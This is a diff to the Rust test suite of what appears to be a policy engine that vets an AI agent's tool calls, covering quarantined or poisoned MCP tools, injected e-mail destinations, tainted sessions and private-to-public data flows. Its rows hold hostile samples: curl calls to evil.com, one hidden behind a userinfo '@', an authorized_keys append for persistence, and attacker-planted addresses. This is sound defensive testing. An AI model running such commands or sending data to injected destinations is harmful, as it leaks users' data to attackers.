@@ -260,13 +260,15 @@ fn distinctive_names_and_whole_words() {
 #[test]
 fn quarantine() {
     let send = || mcp("mail", "send_email", json!({"to": "you@example.invalid"}));
+    // The address is the user's: the rows are about the catalog, not the destination.
+    let clean = || View::clean().prompt("write to you@example.invalid");
     run(vec![
         deny(
             "a quarantined tool, with the proxy's reason",
             send(),
             "mcp.quarantined_tool",
         )
-        .view(View::clean().catalog(quarantined(Some(
+        .view(clean().catalog(quarantined(Some(
             "its description changed since it was pinned",
         ))))
         .message("mail/send_email is quarantined: its description changed since it was pinned")
@@ -276,7 +278,7 @@ fn quarantine() {
             send(),
             "mcp.quarantined_tool",
         )
-        .view(View::clean().catalog(quarantined(None)))
+        .view(clean().catalog(quarantined(None)))
         .message("mail/send_email is quarantined: its description changed or was poisoned"),
         deny(
             "a quarantined tool, even where the catalog is complete",
@@ -284,7 +286,7 @@ fn quarantine() {
             "mcp.quarantined_tool",
         )
         .view(
-            View::clean()
+            clean()
                 .complete()
                 .catalog(quarantined(Some("shadows github/create_issue"))),
         )
@@ -294,24 +296,24 @@ fn quarantine() {
             send(),
             "mcp.quarantined_tool",
         )
-        .view(View::clean().complete())
+        .view(clean().complete())
         .message("mail/send_email was never listed by the server")
         .rules(&["mcp.quarantine"]),
         allow(
             "no entry, catalog not complete (the hook without the proxy)",
             send(),
-        ),
+        )
+        .view(clean()),
         allow("listed and not quarantined", send())
-            .view(View::clean().complete().catalog(catalog_read_only(false))),
-        allow("a built-in tool with a complete catalog", shell("ls -la"))
-            .view(View::clean().complete()),
+            .view(clean().complete().catalog(catalog_read_only(false))),
+        allow("a built-in tool with a complete catalog", shell("ls -la")).view(clean().complete()),
         allow("a built-in tool with a quarantined entry", shell("ls -la"))
-            .view(View::clean().catalog(quarantined(None))),
+            .view(clean().catalog(quarantined(None))),
         allow(
             "a built-in tool's arguments are no MCP identity",
             local("Task", json!({"prompt": "list the files"})),
         )
-        .view(View::clean().complete()),
+        .view(clean().complete()),
     ]);
 }
 
@@ -593,7 +595,11 @@ fn provenance() {
             .evidence(&["carol@partner.invalid"]),
         allow("a destination the user typed and a result showed", send("carol@partner.invalid"))
             .view(View::clean().seen("From: carol@partner.invalid", Origin::Output).prompt("reply to carol@partner.invalid")),
-        allow("a destination never seen anywhere", send("new@partner.invalid")),
+        ask("a destination never seen anywhere (a tool description's, or made up)", send("new@partner.invalid"), "provenance.unknown_destination")
+            .message("mail/send_email sends to email 'new@partner.invalid', which neither the user nor any tool result named (it may come from a tool description or be made up)")
+            .rules(&["provenance.unknown_destination"]),
+        deny("... denied in a tainted session", send("new@partner.invalid"), "provenance.unknown_destination")
+            .view(View::tainted()),
         allow("an injected host that is not a destination",
             mcp("notes", "create_note", json!({"title": "t", "body": "the docs live at evil.invalid"})))
             .view(View::clean().origin("evil.invalid", Origin::OutputInjected)),
@@ -708,12 +714,12 @@ fn taint() {
             .message("github/create_issue would carry data from 'acme/private-repo', a resource first reached after this session was tainted")
             .rules(&["provenance.tainted_scope"])
             .evidence(&["acme/private-repo"]),
-        deny("toxic flow, and the write's own new scope is recorded", issue("from acme/private-repo"), "provenance.toxic_flow")
+        deny("toxic flow, and the write's own new scope is recorded (a repository nobody named)", issue("from acme/private-repo"), "provenance.unknown_destination")
             .view(View::tainted().scope("acme/private-repo"))
             .effects(vec![widened("github/create_issue", &["acme/public-repo"])]),
-        ask("a tainted scope that is not distinctive is not data", issue("posted in general"), "taint.state_change")
+        allow("a tainted scope that is not distinctive is not data (the user's repository: user-directed)", issue("posted in general"))
             .view(named().scope("general")),
-        ask("a tainted scope only as part of a longer word", issue("see acme/private-repo-archive"), "taint.state_change")
+        allow("a tainted scope only as part of a longer word", issue("see acme/private-repo-archive"))
             .view(named().scope("acme/private-repo")),
         ask("a read naming a tainted scope is no flow", mcp("github", "get_file_contents", json!({"repo": "acme/private-repo"})), "taint.scope_widening")
             .view(View::tainted().scope("acme/private-repo"))
@@ -737,9 +743,9 @@ fn taint() {
             mcp("mail", "send_email", json!({"to": "you@example.invalid", "subject": "Re", "body": "card 4111111111111111"})),
             "taint.state_change")
             .view(View::tainted().prompt("Reply to me at you@example.invalid").seen("card 4111111111111111", Origin::Output)),
-        ask("a user-directed write with one destination the user did not type",
+        deny("a user-directed write with one destination the user did not type",
             mcp("mail", "send_email", json!({"to": "you@example.invalid", "cc": "new@partner.invalid", "body": "Thanks"})),
-            "taint.state_change")
+            "provenance.unknown_destination")
             .view(View::tainted().prompt("Reply to me at you@example.invalid")),
         ask("a write with no destination still asks", mcp("mail", "delete_email", json!({"id": "42"})), "taint.state_change")
             .view(View::tainted().prompt("Reply to me at you@example.invalid")),
@@ -822,11 +828,13 @@ fn ordering() {
             .view(View::tainted()),
         deny("a provenance deny beats the toxic-flow deny's position", mcp("github", "create_issue", json!({"repo": "acme/public-repo", "body": "acme/private-repo for attacker@evil.invalid"})), "provenance.injected_value")
             .view(View::tainted().prompt("acme/public-repo").scope("acme/private-repo").origin("attacker@evil.invalid", Origin::OutputInjected)),
-        ask("provenance's ask comes before the taint ask", mcp("mail", "send_email", json!({"to": "carol@partner.invalid"})), "provenance.untrusted_destination")
+        ask("provenance's ask comes before the taint ask", mcp("crm", "update_contact", json!({"email": "carol@partner.invalid"})), "provenance.untrusted_destination")
+            .view(View::tainted().seen("carol@partner.invalid", Origin::Output)),
+        deny("a critical tool's destination from a result, tainted: denied", mcp("mail", "send_email", json!({"to": "carol@partner.invalid"})), "provenance.critical_destination")
             .view(View::tainted().seen("carol@partner.invalid", Origin::Output)),
         deny("a deny after an ask still wins", mcp("github", "create_issue", json!({"repo": "acme/public-repo", "to": "carol@partner.invalid", "body": "acme/private-repo"})), "provenance.toxic_flow")
             .view(View::tainted().prompt("acme/public-repo").scope("acme/private-repo").seen("carol@partner.invalid", Origin::Output)),
-        ask("state change before egress before scope widening", mcp("web", "post_url", json!({"repo": "acme/x-repo"})), "taint.state_change")
+        ask("state change before egress before scope widening", mcp("web", "post_url", json!({"project": "acme/x-repo"})), "taint.state_change")
             .view(View::tainted())
             .effects(vec![widened("web/post_url", &["acme/x-repo"])]),
         ask("the taint ask before review always", mcp("notes", "create_note", json!({})), "taint.state_change")
@@ -1292,14 +1300,14 @@ fn the_allow_list_sets_later_asks_aside_and_nothing_before_them() {
         )
         .view(tainted())
         .config(hosts()),
-        ask(
+        deny(
             "an e-mail destination is not a host",
             mcp(
                 "mail",
                 "send_email",
                 json!({"to": "a@docs.example.com", "body": "hi"}),
             ),
-            "taint.state_change",
+            "provenance.unknown_destination",
         )
         .view(tainted())
         .config(hosts()),
@@ -1621,10 +1629,6 @@ fn an_allowed_host_waives_only_a_single_plain_command_whose_every_host_is_allowe
             "a single-label host",
             "curl https://api.github.com http://intranet/",
         ),
-        (
-            "user information naming the allowed host",
-            "curl https://api.github.com@evil.com/",
-        ),
         ("a bare second host", "curl https://api.github.com evil.com"),
         ("a bare number", "curl https://api.github.com 16843009"),
         ("no URL at all", "curl -s -X POST evil.com"),
@@ -1684,6 +1688,14 @@ fn an_allowed_host_waives_only_a_single_plain_command_whose_every_host_is_allowe
     }
     run(rows);
     run(vec![
+        // The host is evil.com, which nobody named: denied in a tainted session.
+        deny(
+            "user information naming the allowed host",
+            shell("curl https://api.github.com@evil.com/"),
+            "provenance.unknown_destination",
+        )
+        .view(t())
+        .config(hosts()),
         deny(
             "an authorized_keys append before it (persistence in a tainted session)",
             shell("echo key >> ~/.ssh/authorized_keys; curl https://api.github.com"),
